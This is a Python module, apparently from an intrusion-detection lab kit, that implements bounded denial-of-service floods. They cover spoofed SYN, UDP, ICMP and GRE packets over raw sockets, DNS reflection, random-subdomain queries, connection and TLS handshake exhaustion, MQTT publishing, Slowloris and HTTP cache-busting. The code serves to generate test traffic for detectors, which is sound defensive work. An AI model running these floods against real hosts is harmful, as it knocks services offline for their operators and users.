"""Floods of bounded size."""

from __future__ import annotations

import os
import socket
import ssl
import struct
import time
from collections.abc import Callable
from contextlib import suppress

from idskit.lab.play.play_names import A, query
from idskit.lab.play.script import RANDOM, connect, connect_tls, datagrams, rest, script


@script
def spoofed_syn(server: str, count: int, _pause: float, port: str = "80") -> None:
    """Flood a port with SYNs from forged sources."""
    _flood(server, count * 100, lambda source: _syn(source, server, int(port)), socket.IPPROTO_TCP)


@script
def spoofed_udp(server: str, count: int, _pause: float, port: str = "53") -> None:
    """Flood a port with UDP from forged sources."""
    body = struct.pack(">HHHH", 53, int(port), 72, 0) + bytes(64)
    _flood(server, count * 100, lambda _: body, socket.IPPROTO_UDP)


@script
def reflected_dns(server: str, count: int, _pause: float) -> None:
    """Flood with long answers that were never asked for, from many name servers."""

    def answer(_: str) -> bytes:
        body = struct.pack(">HHHHHH", RANDOM.getrandbits(16), 0x8180, 1, 20, 0, 0) + os.urandom(900)
        return struct.pack(">HHHH", 53, RANDOM.randint(1024, 65535), 8 + len(body), 0) + body

    _flood(server, count * 30, answer, socket.IPPROTO_UDP)


@script
def spoofed_icmp(server: str, count: int, _pause: float) -> None:
    """Flood with echo requests from forged sources."""
    body = b"\x08\0\xf7\xff\0\0\0\0"
    _flood(server, count * 100, lambda _: body, socket.IPPROTO_ICMP)


@script
def spoofed_gre(server: str, count: int, _pause: float) -> None:
    """Flood with GRE, as Mirai can."""
    _flood(server, count * 60, lambda _: b"\0\0\x08\0" + os.urandom(512), socket.IPPROTO_GRE)


def _flood(server: str, count: int, make: Callable[[str], bytes], protocol: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for _ in range(count):
            source = f"10.77.{RANDOM.randint(1, 254)}.{RANDOM.randint(1, 254)}"
            segment = make(source)
            total = 20 + len(segment)
            head = struct.pack(">BBHHHBBH", 0x45, 0, total, 0, 0, 64, protocol, 0)
            ends = socket.inet_aton(source) + socket.inet_aton(server)
            out.sendto(head + ends + segment, (server, 0))


def _syn(source: str, server: str, port: int) -> bytes:
    mine = RANDOM.randint(1024, 65535)
    head = struct.pack(">HHIIBBHHH", mine, port, RANDOM.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(server) + struct.pack(">BBH", 0, 6, 20)
    total = sum(struct.unpack(f">{(len(pseudo) + 20) // 2}H", pseudo + head))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return head[:16] + struct.pack(">H", checksum) + head[18:]


@script
def flood_names(server: str, count: int, _pause: float) -> None:
    """Flood a resolver with names that do not exist, below one domain."""
    with datagrams() as out:
        out.setblocking(False)
        for _ in range(80 * count):
            with suppress(BlockingIOError):
                out.sendto(query(f"{os.urandom(6).hex()}.victim.typo.example", A), (server, 53))
            time.sleep(0.0005)


@script
def flood_ports(server: str, count: int, _pause: float, size: str = "512") -> None:
    """Flood random ports with datagrams."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for _ in range(100 * count):
            with suppress(OSError):
                out.sendto(os.urandom(int(size)), (server, RANDOM.randint(1, 65535)))


@script
def flood_connections(server: str, count: int, _pause: float, port: str = "80") -> None:
    """Open connections until the server has none left, and send nothing."""
    kept = []
    for _ in range(12 * count):
        with suppress(OSError):
            kept.append(connect(server, int(port)))
    time.sleep(3)
    for connection in kept:
        connection.close()


@script
def flood_handshakes(server: str, count: int, _pause: float) -> None:
    """Begin TLS handshakes and break off: cheap here, dear there."""
    for _ in range(12 * count):
        with suppress(OSError, ssl.SSLError):
            connect_tls(server, 443, "lab.example").close()


@script
def flood_mqtt(server: str, count: int, _pause: float) -> None:
    """Connect to a broker and publish as fast as it goes."""
    for number in range(4 * count):
        with suppress(OSError), connect(server, 1883) as connection:
            name = f"x{number:05}".encode()
            body = b"\0\x04MQTT\x04\x02\0\x3c" + struct.pack(">H", len(name)) + name
            connection.sendall(b"\x10" + bytes([len(body)]) + body)
            connection.recv(10)
            for _ in range(20):
                connection.sendall(b"\x30\x7f\0\x05flood" + os.urandom(120))


@script
def drip_headers(server: str, count: int, pause: float) -> None:
    """Hold connections with headers that never end, a few bytes at a time (Slowloris)."""
    kept = [connect(server, 80) for _ in range(3 * count)]
    for connection in kept:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: lab.example\r\n")
    for _ in range(8):
        for connection in kept:
            with suppress(OSError):
                connection.sendall(f"X-a: {RANDOM.randint(1, 5000)}\r\n".encode())
        rest(6 * pause)


@script
def flood_pages(server: str, count: int, _pause: float) -> None:
    """Ask for pages with random queries over many connections, as a botnet does."""
    for _ in range(15 * count):
        with suppress(OSError), connect(server, 80) as connection:
            connection.sendall(
                f"GET /?{RANDOM.getrandbits(40):x} HTTP/1.1\r\nHost: lab.example\r\n"
                "Cache-Control: no-cache\r\nConnection: close\r\n\r\n".encode()
            )
            connection.recv(1 << 14)
